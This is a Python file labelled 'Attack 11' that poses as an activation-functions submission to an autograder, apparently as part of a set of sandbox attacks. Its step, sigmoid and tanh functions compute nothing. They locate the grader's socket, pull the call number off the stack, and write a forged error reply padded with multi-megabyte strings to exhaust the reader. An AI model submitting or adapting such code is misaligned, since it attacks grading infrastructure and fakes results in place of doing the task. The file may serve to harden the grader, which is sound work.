"""Attack 11: words as long as a message may be, which cost the reader more than the writer."""

import os
import stat
import struct
import sys

import numpy as np

encode = sys.modules["autograder.sandbox.codec"].encode
messages = sys.modules["autograder.sandbox.messages"]
LONG = {
    "step": "\x1b" * 4_000_000,
    "sigmoid": "12345" * 800_000,
    "tanh": "1e" * 2_000_000,
}


def channel():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            continue
    raise RuntimeError


def number():
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("call"), "number"):
        frame = frame.f_back
    return frame.f_locals["call"].number


def words(name):
    text = LONG[name]
    error = {"type": text[:100_000], "bases": [], "text": text, "path": "activations.py", "line": 1}
    parts = (number(), messages.RAISED, 0, b"", encode([text[:100_000]]), encode(error))
    body = messages.pack_reply(messages.RawReply(*parts))
    data = memoryview(struct.pack("<Q", len(body)) + body)
    while data:
        data = data[os.write(channel(), data) :]
    raise SystemExit


def step(x):
    words("step")


def sigmoid(x):
    words("sigmoid")


def tanh(x):
    words("tanh")


def _real(x):
    return x if x.dtype.kind == "f" else x.astype(np.float64)


def relu(x):
    return np.maximum(_real(x), 0)


def leaky_relu(x, negative_slope=0.01):
    x = _real(x)
    return np.where(x >= 0, x, negative_slope * x)
